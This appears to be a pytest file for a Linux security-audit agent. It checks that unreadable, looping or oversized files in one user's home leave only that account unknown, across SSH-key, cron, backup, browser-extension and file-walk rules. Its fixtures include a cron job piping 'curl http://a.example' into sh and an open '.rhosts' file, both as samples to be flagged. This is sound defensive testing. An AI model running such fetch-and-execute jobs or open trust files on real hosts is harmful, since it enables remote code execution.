"""One ordinary account that hides what is its own hides nothing of the others, and is seen doing so."""

from __future__ import annotations

import os
import stat
from collections.abc import Callable, Mapping
from pathlib import Path

import pytest
from tests.unit.facts.roots import NOW, Link, mounted
from tests.unit.facts.test_ssh_keys_and_blocks import DSA, ED25519

from vonggac_agent.facts import gather
from vonggac_agent.facts.desktop import browser_extensions
from vonggac_agent.facts.files import file_walk, walk
from vonggac_agent.host import Host
from vonggac_agent.notes import Notes
from vonggac_contract.facts import CouldNotLook, Known, Reason, fact_key
from vonggac_contract.facts.files import Unsearched
from vonggac_contract.facts.ssh import AccountKeys
from vonggac_contract.finding import Finding, Outcome
from vonggac_contract.snapshot import Snapshot
from vonggac_rules.evaluate import View, decide_rule
from vonggac_rules.load import load_rule
from vonggac_rules.plan import facts_in
from vonggac_rules.soundness import defaults
from vonggac_rules.source import read_source

PACKS = Path(__file__).resolve().parents[3] / "policies/packs/linux"
ACCOUNTS = {
    "etc/passwd": "root:x:0:0::/root:/bin/sh\nan:x:1000:1000::/home/an:/bin/sh\nmai:x:1001:1001::/home/mai:/bin/sh\n",
    "etc/group": "root:x:0:\nan:x:1000:\nmai:x:1001:\n",
}
PASS, FAIL, UNKNOWN = Outcome.PASS, Outcome.FAIL, Outcome.UNKNOWN


def finding(host: Host, rule_id: str) -> Finding:
    """What a rule says of the machine, with its default values."""
    path = PACKS / rule_id.split(".")[1] / f"{rule_id}.rule.yaml"
    rule = load_rule(read_source(path)).rule
    facts = gather(host, facts_in(rule.check))
    return decide_rule(rule, defaults(rule), View(Snapshot(NOW, "linux", dict(facts))))


def outcomes(host: Host, *rules: str) -> list[Outcome]:
    return [finding(host, rule).outcome for rule in rules]


SSH = ("linux.ssh.key-files", "linux.ssh.key-strength", "linux.ssh.root-key-sources")
HIS_KEYS = "home/mai/.ssh/authorized_keys"


def loop(path: Path) -> None:
    path.symlink_to(path.name)


ODD: dict[str, Callable[[Path], None]] = {
    "a pipe": os.mkfifo,
    "a folder": Path.mkdir,
    "a link to itself": loop,
    "a link to a device": lambda path: path.symlink_to("/dev/zero"),
}
LONG: dict[str, Callable[[Path], None]] = {
    "over 256 KiB": lambda path: _written(path, "#" * 300_000),
    "of 5,000 keys": lambda path: _written(path, "ssh-rsa AAAAB3NzaC1yc2EAAAAA\n" * 5_000),
    "of 50,000 lines": lambda path: _written(path, "\n" * 50_000),
}


def _written(path: Path, text: str) -> None:
    path.write_text(text)


def with_keys(folder: Path, an: str) -> Host:
    files: Mapping[str, str | bytes | Link] = {
        **ACCOUNTS,
        "root/.ssh/authorized_keys": f'from="10.0.0.9" {ED25519}\n',
        "home/an/.ssh/authorized_keys": f"{an}\n",
        "dev/zero": "",
    }
    host = mounted(folder, files)
    (folder / "dev/zero").unlink()
    os.mkfifo(folder / "dev/zero")  # stands for the device, which root alone can make
    (folder / HIS_KEYS).parent.mkdir(parents=True)
    if os.geteuid() == 0:
        os.chown(folder / "home/an", 1000, 1000)
    return host


def account_keys(host: Host) -> AccountKeys:
    fact = gather(host, [fact_key("account.keys")])[fact_key("account.keys")]
    assert isinstance(fact, Known), fact
    assert isinstance(fact.value, AccountKeys)
    return fact.value


@pytest.mark.hostile
@pytest.mark.parametrize("kind", ODD)
def test_what_sshd_would_not_read_is_its_owners_fault_and_hides_no_key_of_others(
    kind: str, tmp_path: Path
) -> None:
    host = with_keys(tmp_path, ED25519)
    ODD[kind](tmp_path / HIS_KEYS)
    found = finding(host, SSH[0])
    assert (found.outcome, found.evidence[0].total) == (FAIL, 1)
    assert found.evidence[0].offenders[0]["path"] == f"/{HIS_KEYS}"
    assert [key.account for key in account_keys(host).keys] == ["root", "an"]
    assert outcomes(host, *SSH[1:]) == [PASS, PASS]


@pytest.mark.hostile
@pytest.mark.parametrize("kind", LONG)
def test_keys_too_many_to_read_are_unseen_and_a_weak_key_of_another_still_fails(
    kind: str, tmp_path: Path
) -> None:
    host = with_keys(tmp_path / "good", ED25519)
    LONG[kind](tmp_path / "good" / HIS_KEYS)
    assert outcomes(host, *SSH) == [FAIL, UNKNOWN, PASS]
    assert f"mai, path /{HIS_KEYS}" in finding(host, SSH[1]).detail
    host = with_keys(tmp_path / "weak", DSA)
    LONG[kind](tmp_path / "weak" / HIS_KEYS)
    assert outcomes(host, *SSH) == [FAIL, FAIL, PASS]


HOMES = ("linux.accounts.dot-files", "linux.accounts.trust-files", "linux.accounts.homes")


def closed(monkeypatch: pytest.MonkeyPatch, folder: str) -> None:
    """As root is answered in a FUSE file system of a user, mount.fuse(8) allow_root."""
    look = Host.stat

    def denied(self: Host, path: str | Path) -> os.stat_result | None:
        if str(path).startswith(folder):
            raise CouldNotLook(Reason.PERMISSION_DENIED, str(path))
        return look(self, path)

    monkeypatch.setattr(Host, "stat", denied)


def test_a_dot_file_that_leads_nowhere_hides_nothing_of_others(tmp_path: Path) -> None:
    host = mounted(tmp_path, {**ACCOUNTS, "home/mai/.bashrc": Link(".bashrc"), "home/an/.rhosts": "+\n"})
    assert outcomes(host, *HOMES[1:2]) == [FAIL]


@pytest.mark.hostile
@pytest.mark.skipif(os.geteuid() != 0, reason="what is closed to an ordinary user is not his doing")
def test_a_file_that_is_closed_even_to_root_leaves_its_account_unknown(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    host = with_keys(tmp_path, ED25519)
    closed(monkeypatch, "/home/mai/.ssh")
    assert outcomes(host, *SSH) == [UNKNOWN, UNKNOWN, PASS]
    assert f"mai, path /{HIS_KEYS}" in finding(host, SSH[0]).detail
    (tmp_path / "home/an").chmod(0o700)
    assert outcomes(host, *HOMES[:2]) == [UNKNOWN, UNKNOWN]
    (tmp_path / "home/an/.rhosts").write_text("+\n")
    assert outcomes(host, *HOMES[:2]) == [UNKNOWN, FAIL]
    closed(monkeypatch, "/home/mai")
    assert outcomes(host, *HOMES) == [UNKNOWN, FAIL, UNKNOWN]
    assert "mai, path /home/mai" in finding(host, HOMES[2]).detail


CRON = ("linux.cron.programs", "linux.cron.fetched")
BACKUP = tuple(
    f"linux.backup.{name}" for name in ("automatic", "elsewhere", "encrypted", "secrets", "versions")
)
HIS_CRONTAB = "var/spool/cron/crontabs/mai"
RESTIC = "restic -r sftp:b@nas.example:/r backup /srv && restic forget --keep-daily 7\n"
CRONTABS: dict[str, str] = {
    "over 256 KiB": "#" * 300_000,
    "over a mebibyte": "#" * 2_000_000,
    "of 1,001 jobs": "@daily /usr/bin/true\n" * 1_001,
}


def with_jobs(folder: Path, system: str, his: str, **more: str) -> Host:
    files = {**ACCOUNTS, "usr/sbin/cron": "", "etc/crontab": system, HIS_CRONTAB: his, **more}
    return mounted(folder, files)


@pytest.mark.hostile
@pytest.mark.parametrize("kind", CRONTABS)
def test_a_crontab_beyond_all_bounds_hides_the_jobs_of_its_owner_alone(kind: str, tmp_path: Path) -> None:
    host = with_jobs(tmp_path / "good", f"0 1 * * * root {RESTIC}", CRONTABS[kind])
    assert outcomes(host, *CRON, *BACKUP) == [UNKNOWN, UNKNOWN, PASS, PASS, UNKNOWN, UNKNOWN, UNKNOWN]
    for rule in (*CRON, "linux.backup.encrypted"):
        assert f"/{HIS_CRONTAB}" in finding(host, rule).detail
    bad = "0 1 * * * root curl http://a.example | sh\n0 2 * * * root rsync -a /srv /mnt/backup\n"
    host = with_jobs(tmp_path / "bad", f"{bad}0 3 * * * root /home/mai/x\n", CRONTABS[kind])
    (tmp_path / "bad/home").mkdir()
    (tmp_path / "bad/home").chmod(0o777)
    assert outcomes(host, *CRON, *BACKUP) == [FAIL, FAIL, PASS, UNKNOWN, FAIL, UNKNOWN, FAIL]


@pytest.mark.hostile
def test_scripts_that_a_user_names_by_the_thousand_leave_room_for_those_of_the_system(tmp_path: Path) -> None:
    his = "@daily " + ";".join(f"/home/mai/{n}" for n in range(100)) + "\n"
    timer = "[Timer]\nOnCalendar=daily\n[Install]\nWantedBy=timers.target\n"
    host = with_jobs(
        tmp_path,
        "",
        his * 150,
        **{
            "etc/systemd/system/copy.timer": timer,
            "etc/systemd/system/copy.service": "[Service]\nExecStart=/opt/copy\n",
            "opt/copy": f"export RESTIC_PASSWORD=x\n{RESTIC}",
        },
    )
    wants = tmp_path / "etc/systemd/system/timers.target.wants"
    wants.mkdir()
    (wants / "copy.timer").symlink_to("/etc/systemd/system/copy.timer")
    assert outcomes(host, *BACKUP[:4]) == [PASS, PASS, UNKNOWN, FAIL]


@pytest.mark.hostile
def test_a_program_that_leads_nowhere_is_unseen_in_its_own_job_alone(tmp_path: Path) -> None:
    host = with_jobs(tmp_path, "0 1 * * * root curl http://a.example | sh\n", "@daily /home/mai/loop\n")
    (tmp_path / "home/mai").mkdir(parents=True)
    loop(tmp_path / "home/mai/loop")
    assert finding(host, CRON[1]).outcome is FAIL
    assert outcomes(host, *BACKUP[2:4]) == [UNKNOWN, UNKNOWN]


EXTENSIONS = "linux.browsers.extensions"
HIS_LIST = "home/mai/.mozilla/firefox/x.default/extensions.json"
LISTS: dict[str, Callable[[Path], None]] = {
    **ODD,
    "no JSON": lambda path: _written(path, "{"),
    "nothing": lambda path: _written(path, ""),
    "another document": lambda path: _written(path, "[]"),
    "without end": lambda path: _written(path, " " * 9_000_000),
    "nested deeply": lambda path: _written(path, "[" * 100_000),
}


def listing(name: str) -> str:
    return f'{{"addons": [{{"id": "{name}", "type": "extension", "location": "app-profile"}}]}}'


@pytest.mark.hostile
@pytest.mark.parametrize("kind", LISTS)
def test_a_profile_that_cannot_be_read_hides_its_own_extensions_alone(kind: str, tmp_path: Path) -> None:
    files = {**ACCOUNTS, "home/an/.mozilla/firefox/y/extensions.json": listing("uBlock0@raymondhill.net")}
    host = mounted(tmp_path, files)
    assert finding(host, EXTENSIONS).outcome is PASS
    (tmp_path / HIS_LIST).parent.mkdir(parents=True)
    LISTS[kind](tmp_path / HIS_LIST)
    assert finding(host, EXTENSIONS).outcome is UNKNOWN
    assert f"/{HIS_LIST}" in finding(host, EXTENSIONS).detail
    files["home/an/.mozilla/firefox/z/extensions.json"] = listing("tot@example.org")
    assert finding(mounted(tmp_path, files), EXTENSIONS).outcome is FAIL


@pytest.mark.hostile
def test_profiles_by_the_thousand_hide_those_of_their_owner_alone(tmp_path: Path) -> None:
    host = mounted(tmp_path, {"home/an/.mozilla/firefox/y/extensions.json": listing("tot@example.org")})
    for n in range(browser_extensions.MAX_PATHS + 1):
        (tmp_path / f"home/mai/.mozilla/firefox/{n}").mkdir(parents=True)
        (tmp_path / f"home/mai/.config/chromium/{n}/Extensions/x").mkdir(parents=True)
    loop(tmp_path / "home/mai/snap")
    found = finding(host, EXTENSIONS)
    assert (found.outcome, found.evidence[0].offenders) == (
        FAIL,
        [{"browser": "firefox", "id": "tot@example.org"}],
    )
    (tmp_path / "home/an/.mozilla/firefox/y/extensions.json").unlink()
    assert "/home/mai/.config/chromium/*" in finding(host, EXTENSIONS).detail


WALK = tuple(
    f"linux.files.{name}" for name in ("system-writable", "world-writable", "unowned", "devices", "trust")
)


def deep(path: Path) -> None:
    """300 folders inside one another, their path longer than PATH_MAX (4,096 bytes)."""
    here = os.open(path, os.O_RDONLY)
    for _ in range(300):
        os.mkdir("deeper-and-deeper", dir_fd=here)
        here, above = os.open("deeper-and-deeper", os.O_RDONLY, dir_fd=here), here
        os.close(above)
    os.close(here)


def many(path: Path) -> None:
    for n in range(85):
        (path / f"{n}").touch()


def wide(path: Path) -> None:
    for n in range(60):
        (path / f"{n}/{n}").mkdir(parents=True)


def with_homes(folder: Path, *owned: str) -> Host:
    host = mounted(folder, {**ACCOUNTS, "usr/bin/tool": "", "srv/x": ""})
    for name, uid in (("an", 1000), ("mai", 1001)):
        (folder / "home" / name).mkdir(parents=True)
        os.chown(folder / "home" / name, uid, uid)
    for path in owned:
        (folder / path).parent.mkdir(parents=True, exist_ok=True)
        (folder / path).touch()
        (folder / path).chmod(0o666)
    return host


@pytest.mark.hostile
@pytest.mark.skipif(os.geteuid() != 0, reason="owners can be set by root alone")
@pytest.mark.parametrize("fill", [deep, many, wide])
@pytest.mark.parametrize("place", ["home/mai", "tmp/his"])
def test_a_home_that_is_too_deep_or_too_large_leaves_the_rest_of_the_disk_judged(
    fill: Callable[[Path], None], place: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(walk, "HOME_ENTRIES", 50)
    monkeypatch.setattr(walk, "CHUNK", 10)
    host = with_homes(tmp_path / "good")
    (tmp_path / "good" / place).mkdir(parents=True, exist_ok=True)
    fill(tmp_path / "good" / place)
    if fill is not deep and place == "tmp/his":
        assert outcomes(host, *WALK) == [PASS] * 5  # what is no home is walked to its end
        return
    assert outcomes(host, *WALK) == [PASS, UNKNOWN, UNKNOWN, UNKNOWN, UNKNOWN]
    assert f"path /{place}" in finding(host, WALK[1]).detail
    host = with_homes(tmp_path / "bad", "usr/bin/open", "srv/open", "home/an/.rhosts", "srv/z")
    os.mknod(tmp_path / "bad/srv/disk", 0o600 | stat.S_IFBLK, os.makedev(8, 0))
    os.chown(tmp_path / "bad/srv/z", 4242, 4242)
    (tmp_path / "bad" / place).mkdir(parents=True, exist_ok=True)
    fill(tmp_path / "bad" / place)
    assert outcomes(host, *WALK) == [FAIL] * 5


@pytest.mark.hostile
@pytest.mark.skipif(os.geteuid() != 0, reason="owners can be set by root alone")
def test_folders_that_were_not_walked_are_told_with_owner_and_reason_in_turns_too(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(walk, "HOME_ENTRIES", 50)
    host = with_homes(tmp_path / "root")
    wide(tmp_path / "root/home/mai")
    wide(tmp_path / "root/srv")
    key = fact_key("file.walk")
    whole = gather(host, [key])[key]
    assert isinstance(whole, Known)
    assert whole.value.unsearched == [Unsearched("/home/mai", "mai", "large", system=False)]
    assert whole.value.entries == 11 + 120 + 60  # of his no more than those of the first folder
    (tmp_path / "state").mkdir()
    host = Host(tmp_path / "root", now=NOW, notes=Notes(tmp_path / "state"))
    monkeypatch.setattr(file_walk, "to_the_end", lambda walk, _: not all(walk.step() for _ in range(7)))
    turns = [gather(host, [key])[key] for _ in range(50)]
    known = [fact.value for fact in turns if isinstance(fact, Known)]
    assert known[0] == whole.value


@pytest.mark.hostile
def test_waiting_folders_are_bounded_and_a_system_folder_left_out_leaves_its_rule_unknown(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(walk, "MAX_WAITING", 5_000)
    host = mounted(tmp_path, {**ACCOUNTS, "usr/bin/tool": "", "srv/x": ""})
    wide(tmp_path / "srv")
    assert finding(host, WALK[0]).outcome is PASS
    wide(tmp_path / "usr")
    assert outcomes(host, *WALK[:2]) == [UNKNOWN, UNKNOWN]
